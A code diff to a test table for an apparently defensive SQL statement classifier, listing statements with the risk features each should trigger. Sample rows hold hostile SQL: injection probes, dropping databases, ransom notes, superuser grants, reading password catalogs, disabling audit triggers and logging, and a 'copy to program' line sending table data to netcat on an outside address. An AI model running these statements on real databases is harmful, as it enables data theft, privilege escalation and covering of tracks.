@@ -23,7 +23,7 @@ const table: readonly (readonly [string, readonly StatementFeature[], readonly S
   ['select * from t where 1=1 and a = 2', ['fillerTerms'], ['constantTerms', 'alwaysTrue']],
   [
     'select a from t where b = 1 union select null, version()',
-    ['unevenArms', 'armsWithoutTable', 'nullColumns'],
+    ['unevenArms', 'armsWithoutTable', 'nullColumns', 'constantColumns'],
     [],
   ],
   [
@@ -37,7 +37,11 @@ const table: readonly (readonly [string, readonly StatementFeature[], readonly S
     [],
   ],
   ['select a from t where b = chr(65)||chr(66)', ['codeChains'], []],
-  ["select a from t where b = '' -- and c = 1", ['closingComment', 'commentedSql', 'emptyStrings'], []],
+  ['update t set a = 1 or true where b = 2', ['conditionsAsValues', 'alwaysTrue'], []],
+  ['insert into t values (1 or a = a)', ['conditionsAsValues', 'selfComparisonsUnderOr'], []],
+  ['select a or b from t', [], ['conditionsAsValues']],
+  ["select a from t where b = '' -- and c = 1", ['commentedSql', 'emptyStrings'], []],
+  ['select a from t where b = 1 /* route=orders, app=web */', [], ['commentedSql', 'emptyClosingComment']],
   [
     "select a from t where b = ') union all select null, null from users'",
     ['innerKeywords', 'innerUnbalanced'],
@@ -50,7 +54,28 @@ const table: readonly (readonly [string, readonly StatementFeature[], readonly S
   ['update t set a = 1 where id = 2', ['isUpdate'], ['changesAll']],
   ['drop table a, b', ['dropsTables', 'isDrop'], ['dropsMinor']],
   ['drop index i', ['dropsMinor'], ['dropsTables']],
-  ['drop table t; create table u(a text)', ['dropThenCreate', 'stackedKinds'], []],
+  ['drop table t; create table u(a text)', ['dropThenOther', 'stackedKinds'], []],
+  ['drop table t; create table t(a text)', ['stackedKinds'], ['dropThenOther']],
+  ['drop database d with (force)', ['dropsByForce', 'dropsDatabases'], []],
+  ['create table read_me(a text)', ['ransomNotes', 'createsTables'], []],
+  ["insert into t values (1, 'send 0.1 btc to recover your data')", ['ransomNotes'], []],
+  ['create language plperlu', ['untrustedCode', 'reaches'], []],
+  ['create extension hstore', ['extensions'], ['reachingExtensions', 'reaches']],
+  ['create extension dblink', ['reachingExtensions', 'reaches'], []],
+  ["do $$ begin execute 'alter role a superuser'; end $$", ['bodyPowers', 'bodyBuilds', 'powers'], []],
+  [
+    "do $$ begin execute format('create index on %I (a)', t); end $$",
+    ['bodyBuilds'],
+    ['bodyPowers', 'powers'],
+  ],
+  ["do $$ begin execute 'copy t to program ''sh'''; end $$", ['bodyReaches', 'reaches'], []],
+  ['do $$ begin drop table t; end $$', ['bodyDestroys'], ['bodyReaches']],
+  ['create role a in role pg_execute_server_program', ['grantsRoles', 'powers'], []],
+  ['grant execute on function pg_read_file(text) to a', ['grantsRoles', 'powers'], []],
+  ['set role postgres', ['takesRoles', 'powers'], []],
+  ['set role app', [], ['takesRoles', 'powers']],
+  ["alter system set log_statement = 'none'", ['systemSettings', 'guardSettings'], []],
+  ['create index concurrently on t (a)', ['maintains'], []],
   ["copy t to program 'nc 192.0.2.1 80'", ['copyProgram', 'copyOut'], ['copyFile', 'copyIn']],
   ["copy t from '/tmp/x.csv'", ['copyFile', 'copyIn', 'pathsInLiterals'], ['copyOut']],
   ['grant postgres to bob', ['grantsRoles'], ['grantsToAll']],
@@ -58,9 +83,17 @@ const table: readonly (readonly [string, readonly StatementFeature[], readonly S
   ['alter role bob superuser', ['makesSuperusers'], []],
   ['alter role bob nosuperuser', ['makesRoles'], ['makesSuperusers']],
   ["set log_statement = 'none'", ['guardSettings'], ['systemSettings']],
-  ['alter table t disable trigger all', ['switchesGuardsOff'], []],
+  ['alter table t disable trigger all', ['switchesTriggersOff'], ['switchesGuardsOff', 'powers']],
+  ['alter table audit.events disable trigger all', ['changesTrails', 'powers'], []],
+  ['alter table t disable row level security', ['switchesGuardsOff', 'powers'], []],
   ['create function f() returns int as $$ x $$ language plpython3u', ['untrustedCode'], []],
-  ['select rolpassword from pg_authid', ['secretCatalogs', 'catalogTables'], ['foreignCatalogs']],
+  [
+    'select rolpassword from pg_authid',
+    ['secretCatalogs', 'secretColumns', 'catalogTables'],
+    ['foreignCatalogs'],
+  ],
+  ['select usename from pg_shadow', ['secretCatalogs'], ['secretColumns']],
+  ['table pg_shadow', ['secretColumns'], []],
   ['select a from t where b = (select count(*) from pg_roles)', ['catalogInside'], ['queryTerms']],
   [
     'select * from pg_class c, pg_namespace n where n.oid = c.relnamespace',
@@ -75,8 +108,9 @@ const table: readonly (readonly [string, readonly StatementFeature[], readonly S
   ['selec a form t', ['parseFailed'], ['isSelect']],
   ['select a from t where b = :x::text', ['parseFailed', 'parameters'], []],
   ['declare c cursor with hold for select * from t', ['cursors', 'holdCursors'], []],
-  ['SeLeCt a FrOm t', ['mixedCaseKeywords'], []],
-  ["select a from t where b = 'x'or 1=1", ['gluedKeywords'], []],
+  ['select a from t where b % 20 = 0', [], ['percentCodes']],
+  ["select a from t where b = '1%27 or 1'", ['percentCodes'], []],
+  ['select a from t where b=-1', [], ['unknownOperators']],
 ];
 for (const [sql, present, absent] of table)
   test(`features of ${sql}`, (t) => {
@@ -100,7 +134,7 @@ test('each feature has a name and a sentence of its own', (t) => {
 test('names and values leave features and wording as they are', (t) => {
   const one = "select o.total from shop.orders o where o.code = 'abcd' and o.n in (17, 25) limit 10";
   const other = "select x.price from depot.parts x where x.item = 'qrst' and x.k in (91, 33) limit 10";
-  t.deepEqual(rowOf(factsOf(one)).slice(1), rowOf(factsOf(other)).slice(1));
+  t.deepEqual(rowOf(factsOf(one)), rowOf(factsOf(other)));
   t.deepEqual(maskedWords(tokensOf(one)), maskedWords(tokensOf(other)));
 });
 
